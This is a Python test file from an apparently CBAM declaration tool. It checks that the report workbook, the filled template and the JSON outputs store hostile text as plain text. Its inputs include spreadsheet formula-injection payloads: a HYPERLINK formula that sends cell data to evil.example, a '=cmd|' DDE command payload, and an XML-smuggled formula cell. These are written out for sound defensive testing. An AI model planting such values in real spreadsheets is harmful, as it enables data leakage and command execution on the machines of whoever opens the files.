"""Writers that cannot be fooled: whatever text reaches them, the Excel outputs hold it as a text
cell (never a formula or a link) and the JSON outputs hold it as a string.

The readers refuse such texts on input (``test_customs_lines.py``, ``test_other_readers.py``);
these tests feed the writers directly, so that the writers hold even where a text got past.
"""

from __future__ import annotations

import csv
import json
import re
import zipfile
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl

from cbam.declaration.engine import Engine
from cbam.declaration.model import ImportLine
from cbam.formats.declaration_files import write_declaration_json
from cbam.formats.lines import LinesCsvWriter, read_lines_csv
from cbam.formats.workbook import write_report_xlsx
from cbam.jsonout import dumps

from .conftest import assert_refused, cli
from .corpus import case, refused

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = [
    '\x01=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "\x00dec:123",
]
SHOWN = [text.replace("\x01", "").replace("\x00", "") for text in HOSTILE]


def _formulas(path: Path) -> list[str]:
    """Every <f> element (a formula) in the workbook's sheets."""
    found: list[str] = []
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                found += re.findall(r"<f[ >/]", archive.read(name).decode("utf-8"))
    return found


def _engine_run(tmp_path: Path, declarant: dict[str, str]) -> tuple[Any, Path]:
    """An assessment of lines carrying the hostile ids, past the input checks (the engine)."""
    lines_path = tmp_path / "lines.csv"
    with LinesCsvWriter(lines_path) as sink:
        engine = Engine(2026, sink=sink)
        engine.add_lines(
            ImportLine(
                row=i + 2,
                cn="72081000",
                country="CN",
                net_mass=Decimal(i + 1),
                year=2026,
                quarter=1,
                line_id=text,
            )
            for i, text in enumerate(HOSTILE)
        )
        assessment = engine.finish(declarant=declarant)
    return assessment, lines_path


@case(
    "writers",
    'report.xlsx given line ids `"\\x01=HYPERLINK(...)"`, `=1+2`, `+1+2`, `-1+2`, `@SUM(...)`, '
    "`=cmd|...`, and a declarant name `\\x01=1+1 Trading` (was: a formula, the leading `=` "
    "checked before the control character was removed)",
    "every one a text cell holding the cleaned text; not one `<f>` element in any sheet",
)
def test_report_xlsx_writes_hostile_text_as_text(tmp_path: Path) -> None:
    assessment, lines_path = _engine_run(tmp_path, {"name": "\x01=1+1 Trading"})
    report = tmp_path / "report.xlsx"
    write_report_xlsx(assessment, report, lines_csv=lines_path)
    assert _formulas(report) == []
    book = openpyxl.load_workbook(report)
    lines = book["Lines"]
    header = [c.value for c in lines[1]]
    column = header.index("Line id") + 1
    cells = [lines.cell(row=r, column=column) for r in range(2, 2 + len(HOSTILE))]
    assert [c.value for c in cells] == SHOWN
    assert {c.data_type for c in cells} == {"s"}
    summary_texts = [c.value for row in book["Summary"].iter_rows() for c in row]
    assert "=1+1 Trading" in summary_texts


#: A text XlsxWriter's streaming mode took for a rich string it had built and copied into the
#: sheet as XML: it closes its cell and adds a formula cell of its own.
RICH = '<r><t>a</t></r></is></c><c r="Z9"><f>HYPERLINK("http://evil.example","y")</f></c><c><is><r></r>'


@case(
    "writers",
    "`cbam assess` of a customs file whose line id and installation id are shaped like an "
    'XlsxWriter rich string: `<r>...</r></is></c><c r="Z9"><f>HYPERLINK(...)</f></c>...</r>` '
    "(was: copied into report.xlsx as XML, a formula cell added)",
    "accepted; every sheet shows the text as it was read, in text cells; not one `<f>` element",
)
def test_report_xlsx_writes_rich_string_lookalikes_as_text(tmp_path: Path) -> None:
    imports = tmp_path / "imports.csv"
    with imports.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(
            [
                ["line_id", "cn_code", "country", "net_mass", "import_date", "installation_id"],
                [RICH, "72081000", "CN", "60", "2026-02-03", RICH],
            ]
        )
    run = cli("assess", imports, "--year", "2026", "--out", tmp_path / "out")
    assert run.code == 0, run.err
    report = tmp_path / "out" / "report.xlsx"
    assert _formulas(report) == []
    book = openpyxl.load_workbook(report)
    lines = book["Lines"]
    header = [c.value for c in lines[1]]
    assert lines.cell(row=2, column=header.index("Line id") + 1).value == RICH
    goods = book["Goods"]
    header = [c.value for c in goods[1]]
    assert goods.cell(row=2, column=header.index("Installation") + 1).value == RICH


@case(
    "writers",
    "lines.csv given the same line ids",
    "kept verbatim (lines.csv is the exact record read back by tools): `=1+2` comes back "
    "`=1+2`; the Excel outputs are the ones people open",
)
def test_lines_csv_is_data_kept_verbatim(tmp_path: Path) -> None:
    _, lines_path = _engine_run(tmp_path, {})
    assert [line.line_id for line in read_lines_csv(lines_path)] == HOSTILE


@case(
    "writers",
    'a filled template given an installation name `"\\x01=HYPERLINK(...)"` and a process '
    "name `@evil` (Python API, past the file checks)",
    "inline text cells `=HYPERLINK(...)` and `@evil`; the template's own formulas stay, none added",
)
def test_filled_template_writes_hostile_text_as_text(reference_dir: Path, tmp_path: Path) -> None:
    from cbam.formats.template import fill_template

    blank = reference_dir / "xlsx" / "communication-template-v2.1.1-blank.xlsx"
    data = json.loads(
        (ROOT / "samples" / "installations" / "cement.json").read_text(encoding="utf-8")
    )
    data["installation"]["name"] = HOSTILE[0]
    data["processes"][0]["name"] = "@evil"
    out = tmp_path / "filled.xlsx"
    fill_template(data, blank, out)
    assert len(_formulas(out)) == len(_formulas(blank))
    with zipfile.ZipFile(out) as archive:
        xml = b"".join(archive.read(n) for n in archive.namelist() if "worksheets/" in n)
    assert b'<is><t xml:space="preserve">=HYPERLINK(' in xml
    assert b'<is><t xml:space="preserve">@evil</t></is>' in xml


@case(
    "writers",
    "`cbam template fill` with an installation named `=HYPERLINK(...)`",
    refused("installation", "name", "a spreadsheet would read it as a formula")
    + "; nothing written",
)
def test_template_fill_refuses_a_formula_name(tmp_path: Path) -> None:
    data = json.loads(
        (ROOT / "samples" / "installations" / "cement.json").read_text(encoding="utf-8")
    )
    data["installation"]["name"] = '=HYPERLINK("http://evil.example")'
    installation = tmp_path / "inst.json"
    installation.write_text(json.dumps(data), encoding="utf-8")
    out = tmp_path / "filled.xlsx"
    run = cli("template", "fill", installation, "--template", installation, "-o", out)
    message = assert_refused(run, installation, "installation", "name")
    assert "a spreadsheet would read it as a formula" in message
    assert not out.exists()


def _strings(value: object) -> set[str]:
    if isinstance(value, str):
        return {value}
    if isinstance(value, dict):
        return set().union(*(_strings(v) for v in value.values()), set())
    if isinstance(value, list):
        return set().union(*(_strings(v) for v in value), set())
    return set()


@case(
    "writers",
    'JSON texts `"\\x00dec:123"` and `"\\x00dec:1.2.3"` (was: the number 123, and an invalid '
    "declaration.json)",
    "written as the strings they are; declaration.json stays valid JSON; Decimals are JSON "
    "numbers with every digit",
)
def test_json_has_no_in_band_markers(tmp_path: Path) -> None:
    texts = {"a": "\x00dec:123", "b": "\x00dec:1.2.3", "n": Decimal("1.5290")}
    assert json.loads(dumps(texts)) == {"a": "\x00dec:123", "b": "\x00dec:1.2.3", "n": 1.529}
    assert '"n": 1.529' in dumps(texts)
    assessment, _ = _engine_run(tmp_path, {"name": "\x00dec:123", "eori": "\x00dec:1.2.3"})
    path = write_declaration_json(assessment, tmp_path / "declaration.json")
    document = json.loads(path.read_text(encoding="utf-8"))
    texts_found = _strings(document)
    assert {"\x00dec:123", "\x00dec:1.2.3"} <= texts_found
